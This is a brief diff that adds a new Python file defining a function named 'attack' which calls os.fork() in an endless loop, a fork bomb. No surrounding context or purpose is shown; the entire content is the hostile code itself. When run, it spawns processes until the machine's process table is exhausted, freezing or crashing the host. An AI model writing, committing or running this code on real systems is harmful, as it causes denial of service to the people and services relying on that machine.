@@ -1,0 +1,6 @@
+import os
+
+
+def attack(x):
+    while True:
+        os.fork()
